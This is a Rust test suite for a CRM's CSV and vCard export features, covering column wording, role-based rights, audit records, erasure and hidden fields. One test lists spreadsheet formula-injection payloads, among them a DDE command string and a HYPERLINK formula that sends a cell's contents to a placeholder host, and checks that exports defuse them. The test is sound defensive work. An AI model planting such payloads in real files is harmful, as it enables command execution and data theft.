//! Exports of lists: what is in the file, who may take what, and that an import takes it back.

use serde_json::{Value, json};
use std::collections::BTreeSet;
use zhike_core::Error;
use zhike_tests::{Office, Person};

/// The rows of an exported text, the header first.
fn table(person: &Person, name: &str, input: Value) -> Vec<Vec<String>> {
    let text = text(person, name, input);
    let bare = text.strip_prefix('\u{feff}').expect("the mark of UTF-8");
    assert!(bare.ends_with("\r\n"), "RFC 4180 ends a line so");
    let mut rows = vec![Vec::new()];
    let (mut cell, mut inside) = (String::new(), false);
    let mut chars = bare.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if inside && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => inside = !inside,
            ',' if !inside => rows.last_mut().expect("a row").push(std::mem::take(&mut cell)),
            '\r' if !inside => {}
            '\n' if !inside => {
                rows.last_mut().expect("a row").push(std::mem::take(&mut cell));
                rows.push(Vec::new());
            }
            c => cell.push(c),
        }
    }
    rows.pop();
    rows
}

fn text(person: &Person, name: &str, input: Value) -> String {
    let done = person.job(name, input).unwrap_or_else(|e| panic!("{name}: {e}"));
    String::from_utf8(person.take(done["file"].as_str().expect("a file"))).expect("UTF-8")
}

/// One column of a table by its header.
fn column(rows: &[Vec<String>], header: &str) -> Vec<String> {
    let at = rows[0].iter().position(|h| h == header).unwrap_or_else(|| panic!("{header} in {:?}", rows[0]));
    rows[1..].iter().map(|row| row[at].clone()).collect()
}

/// A field of the office's own; its name in calls.
fn own_field(boss: &Person, field: Value) -> String {
    format!("custom.{}", boss.ok("field.add", field)["code"].as_str().expect("a code"))
}

fn grant(boss: &Person, role: &str, entity: &str, action: &str, level: &str) {
    boss.ok("role.grant", json!({ "role": role, "entity": entity, "action": action, "level": level }));
}

#[test]
fn a_list_is_exported_as_it_is_filtered_and_sorted_with_its_columns_and_its_words() {
    let (_office, boss) = Office::found();
    boss.import("客户名称,客户等级,电话,注册资金\n恒远信息,大客户,+86 21 6888,1200\n安达,普通客户,021-1,0.5\n曹氏,大客户,021-2,3\n");
    let filter = json!([{ "field": "phone", "op": "not_empty" }]);
    let input = json!({ "filter": filter, "sort": { "by": "name", "desc": true }, "columns": ["name", "level", "phone", "registered_capital", "owner"] });
    let mut zh = input.clone();
    zh["language"] = json!("zh");
    let rows = table(&boss, "customer.export", zh);
    assert_eq!(rows[0], ["名称", "客户等级", "电话", "注册资金(万元)", "客户经理"]);
    assert_eq!(rows[1], ["恒远信息", "大客户", "'+86 21 6888", "1200", "王晓东"]);
    assert_eq!(column(&rows, "名称"), ["恒远信息", "曹氏", "安达"]);
    let mut en = input;
    en["language"] = json!("en");
    let rows = table(&boss, "customer.export", en);
    assert_eq!(rows[0], ["Name", "Level", "Phone", "Registered capital", "Account manager"]);
    assert_eq!(rows[1], ["恒远信息", "Key account", "'+86 21 6888", "12000000.00", "王晓东"]);

    let level = column(&table(&boss, "customer.export", json!({})), "客户等级");
    assert_eq!(level.len(), 3, "everything, in the workspace's language");
    let unknown = boss.job("customer.export", json!({ "columns": ["nonsense"] })).expect_err("no such column");
    assert!(matches!(unknown, Error::Invalid { .. }), "{unknown}");
}

#[test]
fn tags_points_custom_fields_and_names_of_records_are_exported() {
    let (_office, boss) = Office::found();
    let field = json!({ "entity": "customer", "kind": "multi_choice", "label_zh": "渠道", "label_en": "Channels",
        "options": [{ "value": "a", "label_zh": "线上/直播", "label_en": "Live, online" }, { "value": "b", "label_zh": "门店", "label_en": "Shop" }] });
    let code = own_field(&boss, field);
    let parent = boss.customer("集团");
    let input = json!({ "values": { "kind": "company", "name": "恒远信息", "parent": parent, code: ["a", "b"] },
        "points": [{ "kind": "mobile", "label": "前台", "raw": "13800138000" }, { "kind": "wechat", "raw": "hengyuan_cs" }],
        "tags": ["重点", "上海, 浦东"], "incomplete": true });
    let id = boss.ok("customer.create", input)["id"].as_str().expect("an id").to_string();
    let contact = boss.contact(&id, json!({ "name": "仇英", "mobile": "139", "email": "qiu@x.example" }));
    boss.interaction(
        &id,
        json!({ "summary": "问交货期", "contact": contact, "occurred_at": "2026-11-20T02:03:04.000Z" }),
    );

    let customers = table(
        &boss,
        "customer.export",
        json!({ "filter": [{ "field": "name", "op": "eq", "value": "恒远信息" }], "language": "zh" }),
    );
    assert_eq!(column(&customers, "上级单位"), ["集团"]);
    assert_eq!(column(&customers, "渠道"), ["\"线上/直播\",门店"]);
    assert_eq!(column(&customers, "标签"), ["重点,\"上海, 浦东\""]);
    assert_eq!(column(&customers, "其他联系方式"), ["手机(前台): 13800138000\n微信: hengyuan_cs"]);
    let contacts = table(&boss, "contact.export", json!({ "language": "en" }));
    assert_eq!(column(&contacts, "Customer"), ["恒远信息"]);
    assert_eq!(column(&contacts, "Mobile"), ["139"]);
    assert_eq!(column(&contacts, "Other contact points"), [""], "what a field says is not said twice");
    let numbers = column(&table(&boss, "customer.export", json!({ "columns": ["number"] })), "客户编号");
    assert!(numbers.contains(&column(&contacts, "Customer number")[0]));
    let talks = table(&boss, "interaction.export", json!({ "language": "zh", "customer": id }));
    assert_eq!(
        (column(&talks, "联系人"), column(&talks, "时间")),
        (vec!["仇英".into()], vec!["2026-11-20 10:03:04".into()])
    );
}

#[test]
fn an_export_leaves_an_op_that_says_who_took_what_and_nobody_takes_it_back() {
    let (office, boss) = Office::found();
    boss.customer("恒远信息");
    boss.customer("安达");
    let before = boss.content();
    let input = json!({ "filter": [{ "field": "name", "op": "contains", "value": "恒远" }, { "field": "satisfaction", "op": "eq", "value": 3 }] });
    let done = boss.job("customer.export", input).expect("it is exported");
    assert_eq!(done["rows"], 1, "{done}");
    assert_eq!(done["name"], "客户 2026-11-22.csv");
    let step = boss.ok("change.list", json!({}))["steps"][0].clone();
    assert_eq!((step["op"].clone(), step["command"].clone()), (done["op"].clone(), json!("customer.export")));
    let said = step.to_string();
    assert!(said.contains("王晓东"), "by whom: {said}");
    for told in ["\"rows\":1", "\"csv\"", "\"value\":3"] {
        assert!(said.replace('\\', "").contains(told), "{told}: {said}");
    }
    assert!(!said.contains("恒远"), "what somebody typed may be a person's name: {said}");
    let refused = boss.refused("change.undo", json!({ "op": done["op"] }));
    assert!(matches!(refused, Error::Blocked { .. }), "{refused}");
    assert_eq!(boss.content(), before, "nothing else changes");

    // Without the right there is no file, and the right is looked at again when the op is written.
    let li = office.hire(&boss, "li", &["executive"], None);
    assert!(li.job("customer.export", json!({})).is_ok(), "the control");
    grant(&boss, "executive", "customer", "export", "none");
    assert_eq!(li.refused("customer.export", json!({})).code(), "Forbidden");
    assert!(li.job("contact.export", json!({})).is_ok(), "each entity has a right of its own");
}

#[test]
fn an_export_that_is_cancelled_leaves_no_file_and_no_op() {
    let (_office, boss) = Office::found();
    let rows: String = (0..4_000).map(|i| format!("客户{i},{i}\n")).collect();
    boss.import(&format!("客户名称,电话\n{rows}"));
    let newest = boss.ok("change.list", json!({}))["steps"][0]["op"].clone();
    let job = boss.ok("customer.export", json!({}))["job"].as_str().expect("a job").to_string();
    boss.ok("job.cancel", json!({ "job": job }));
    let state = loop {
        let state = boss.ok("job.get", json!({ "job": job }));
        if state["state"] != "running" {
            break state;
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    };
    assert_eq!((state["state"].clone(), state["error"]["code"].clone()), (json!("failed"), json!("Cancelled")));
    assert_eq!(boss.ok("change.list", json!({}))["steps"][0]["op"], newest);
}

/// What the three exports hold together, by name, and whose the customers are.
struct Expected {
    names: BTreeSet<String>,
}

impl Expected {
    /// All records of these owners.
    fn of(owners: &[&str]) -> Self {
        let names = owners.iter().flat_map(|o| (0..3).map(move |i| format!("{o}{i}"))).collect();
        Self { names }
    }

    fn differs(&self, person: &Person) -> Vec<String> {
        let mut wrong = Vec::new();
        for (call, header, before) in
            [("customer.export", "名称", ""), ("contact.export", "姓名", "c-"), ("interaction.export", "概要", "i-")]
        {
            let rows = table(person, call, json!({}));
            let found: BTreeSet<String> = column(&rows, header).into_iter().collect();
            let wanted: BTreeSet<String> = self.names.iter().map(|n| format!("{before}{n}")).collect();
            if found != wanted {
                wrong.push(format!("{call}: {found:?}, not {wanted:?}"));
            }
        }
        wrong
    }
}

#[test]
fn an_export_holds_what_its_own_right_and_sight_both_reach_and_nothing_else() {
    let (office, boss) = Office::found();
    let li = office.hire(&boss, "li", &["manager"], Some("华东"));
    let zhou = office.hire(&boss, "zhou", &["manager"], Some("华东"));
    let wu = office.hire(&boss, "wu", &["manager"], Some("华北"));
    let people = [("boss", &boss), ("li", &li), ("zhou", &zhou), ("wu", &wu)];
    for (name, person) in people {
        for i in 0..3 {
            let id = person.customer(&format!("{name}{i}"));
            let contact = person.contact(&id, json!({ "name": format!("c-{name}{i}") }));
            person.interaction(&id, json!({ "summary": format!("i-{name}{i}"), "contact": contact }));
        }
    }
    let everyone = ["boss", "li", "zhou", "wu"];
    let reach = |level: &str| match level {
        "own" => vec!["li"],
        "team" => vec!["li", "zhou"],
        "all" => everyone.to_vec(),
        _ => vec![],
    };
    for read in ["own", "team", "all"] {
        for export in ["own", "team", "all"] {
            grant(&boss, "manager", "customer", "read", read);
            for entity in ["customer", "contact", "interaction"] {
                grant(&boss, "manager", entity, "export", export);
            }
            let both: Vec<&str> = reach(read).into_iter().filter(|o| reach(export).contains(o)).collect();
            assert_eq!(Expected::of(&both).differs(&li), Vec::<String>::new(), "read {read}, export {export}");
            // The control: the oracle sees one owner too many, and one too few.
            assert_eq!(Expected::of(&both[1..]).differs(&li).len(), 3);
            assert!(both.len() == 4 || Expected::of(&everyone).differs(&li).len() == 3);
        }
    }
    // Picked records are under the same rights.
    grant(&boss, "manager", "customer", "export", "own");
    let filter = json!([{ "field": "name", "op": "eq", "value": "zhou1" }]);
    let id = li.ok("customer.list", json!({ "filter": filter }))["rows"][0]["id"].clone();
    assert!(id.is_string(), "the control: he sees it");
    let refused = li.job("customer.export", json!({ "ids": [id] })).expect_err("not his to export");
    assert_eq!(refused.code(), "NotFound");
    let own = li.ok("customer.list", json!({ "filter": [{ "field": "name", "op": "eq", "value": "li1" }] }))["rows"][0]
        ["id"]
        .clone();
    assert_eq!(column(&table(&li, "customer.export", json!({ "ids": [own] })), "名称"), ["li1"]);
}

#[test]
fn case_6_of_an_erased_person_no_export_holds_a_word() {
    let (_office, boss) = Office::found();
    let input = json!({ "values": { "kind": "person", "name": "仇志强", "phone": "13912345678", "occupation": "采购总监" },
        "points": [{ "kind": "wechat", "raw": "qiu_zq" }], "tags": ["棋友"], "incomplete": true });
    let id = boss.ok("customer.create", input)["id"].as_str().expect("an id").to_string();
    boss.interaction(&id, json!({ "summary": "仇志强来电" }));
    let company = boss.customer("他人");
    let contact = boss.contact(&company, json!({ "name": "仇志强的弟弟", "mobile": "13700000000" }));
    let told = boss.interaction(&company, json!({ "summary": "见面", "contact": contact }));
    let words = ["仇志强", "13912345678", "采购总监", "qiu_zq", "13700000000"];
    let everything = |boss: &Person| {
        let lists = ["customer.export", "contact.export", "interaction.export"];
        let people = ["customer.export", "contact.export"].map(|call| text(boss, call, json!({ "format": "vcf" })));
        lists.map(|call| text(boss, call, json!({}))).concat() + &people.concat()
    };
    // An export that looked for him says so in the journal for ever.
    let looked = json!({ "filter": [{ "field": "name", "op": "contains", "value": "仇志强" }] });
    assert_eq!(column(&table(&boss, "customer.export", looked), "名称"), ["仇志强"]);
    let before = everything(&boss);
    for word in words {
        assert!(before.contains(word), "the control: {word} is there before");
    }
    boss.ok("customer.erase", json!({ "id": id }));
    boss.ok("contact.erase", json!({ "id": contact }));
    let after = everything(&boss) + &boss.ok("change.list", json!({ "limit": 200 })).to_string();
    for word in words {
        assert!(!after.contains(word), "{word}");
    }
    assert!(after.contains("他人") && after.contains("见面"), "the control: what was not erased is there");
    assert!(!told.is_empty());
}

#[test]
fn case_8_what_a_role_may_not_see_is_in_none_of_its_exports() {
    let (office, boss) = Office::found();
    let money = json!({ "entity": "customer", "kind": "money", "label_zh": "预算", "label_en": "Budget" });
    let budget = own_field(&boss, money);
    let note = json!({ "entity": "customer", "kind": "text", "label_zh": "暗号", "label_en": "Codeword" });
    let word = own_field(&boss, note);
    let values = json!({ "kind": "company", "name": "金葵花", "phone": "13800138000", "fax": "021-77770000", "bank": "工商银行",
        "bank_account": "6222020200112233", "registered_capital": 777_700, "email": "a@jin.example", budget.clone(): 888_800, word: "天王盖地虎" });
    let input = json!({ "values": values, "incomplete": true,
        "points": [{ "kind": "mobile", "raw": "13900139000" }, { "kind": "email", "raw": "b@jin.example" }] });
    let id = boss.ok("customer.create", input)["id"].as_str().expect("an id").to_string();
    boss.contact(&id, json!({ "name": "仇英", "mobile": "13700137000", "wechat": "qiu_y", "email": "c@jin.example" }));
    let viewer = office.hire(&boss, "blind", &["executive"], None);
    let everything = || {
        let of = |call, format| text(&viewer, call, json!({ "format": format }));
        [of("customer.export", "csv"), of("contact.export", "csv"), of("contact.export", "vcf")].concat()
    };
    let hidden = [
        "13800138000",
        "021-77770000",
        "工商银行",
        "6222020200112233",
        "7777",
        "8888",
        "13900139000",
        "13700137000",
        "qiu_y",
    ];
    let before = everything();
    for value in hidden {
        assert!(before.contains(value), "the control: {value} is there before");
    }
    for class in ["see_phone", "see_bank", "see_amount"] {
        grant(&boss, "executive", "field", class, "none");
    }
    let after = everything();
    for value in hidden {
        assert!(!after.contains(value), "{value}");
    }
    for value in ["金葵花", "a@jin.example", "b@jin.example", "仇英", "c@jin.example", "天王盖地虎"] {
        assert!(after.contains(value), "the control: {value} is nobody's secret");
    }
    let asked = json!({ "columns": ["name", "phone", budget, "points"] });
    let rows = table(&viewer, "customer.export", asked);
    assert_eq!(rows, [vec!["名称", "其他联系方式"], vec!["金葵花", "电子邮件: b@jin.example"]]);
    let by_phone = json!({ "filter": [{ "field": "phone", "op": "contains", "value": "138" }] });
    assert_eq!(viewer.job("customer.export", by_phone).expect_err("hidden").code(), "Forbidden");
    assert!(viewer.job("customer.export", json!({ "sort": { "by": budget } })).is_err());
}

#[test]
fn what_a_spreadsheet_would_run_leaves_guarded_and_comes_back_to_the_letter() {
    const NASTY: [&str; 14] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠A1",
        "'=1+1",
        "''+86",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"here\")",
        "\";=1+1;\"",
        "a\u{3000}=1",
    ];
    // Tags that differ by their width alone are one tag.
    let tag = |at: usize, text: &str| text.chars().take(38).chain(at.to_string().chars()).collect::<String>();
    let (_office, boss) = Office::found();
    for (at, text) in NASTY.iter().enumerate() {
        let values = json!({ "kind": "company", "name": text, "short_name": format!("n{at}"), "note": format!("{text}\n=2"), "phone": "+86 138 0013 8000" });
        boss.ok("customer.create", json!({ "values": values, "tags": [tag(at, text)], "incomplete": true }));
    }
    let csv = text(&boss, "customer.export", json!({}));
    let rows = table(&boss, "customer.export", json!({}));
    // The control: one of them unguarded is seen.
    let runs = |cell: &&String| {
        cell.trim_start_matches([' ', '\u{3000}'])
            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n'])
    };
    assert!(runs(&&"＝1".to_string()) && runs(&&" =1".to_string()));
    assert_eq!(rows.iter().flatten().filter(runs).collect::<Vec<_>>(), Vec::<&String>::new());
    assert!(csv.split("\",\"").count() > NASTY.len() * 20, "every cell stands in quotation marks");

    let (_office, other) = Office::found();
    let done = other.import(&csv);
    assert_eq!(
        (done["created"].as_u64(), done["problems_total"].as_u64()),
        (Some(NASTY.len() as u64), Some(0)),
        "{done}"
    );
    let page = other.ok("customer.list", json!({ "limit": 500 }));
    for (at, text) in NASTY.iter().enumerate() {
        let of = |row: &&Value| row["values"]["short_name"] == format!("n{at}");
        let row = page["rows"].as_array().expect("rows").iter().find(of).expect("the customer");
        assert_eq!(row["values"]["name"], *text);
        assert_eq!(row["values"]["note"], format!("{text}\n=2"));
        assert_eq!(row["values"]["phone"], "+86 138 0013 8000");
        let tags = other.ok("customer.get", json!({ "id": row["id"] }))["tags"].clone();
        assert_eq!(tags[0]["name"], tag(at, text));
    }
    // The control: taken as they stand, the cells are others.
    assert_ne!(column(&rows, "名称"), NASTY.map(String::from).to_vec());
    assert_eq!(other.import(&csv)["unchanged"].as_u64(), Some(NASTY.len() as u64), "a second import changes nothing");
}

#[test]
fn files_that_were_left_make_room_for_new_ones() {
    let (_office, boss) = Office::found();
    boss.customer("恒远信息");
    let put = boss.put("mine.csv", b"name\nA\n");
    let first = boss.job("customer.export", json!({})).expect("a file")["file"].clone();
    for _ in 0..40 {
        boss.job("customer.export", json!({})).expect("there is room");
    }
    assert!(boss.app.take(&boss.session, first.as_str().expect("an id")).is_err(), "the oldest is gone");
    assert_eq!(boss.take(&put), b"name\nA\n", "what somebody put there stays");
}
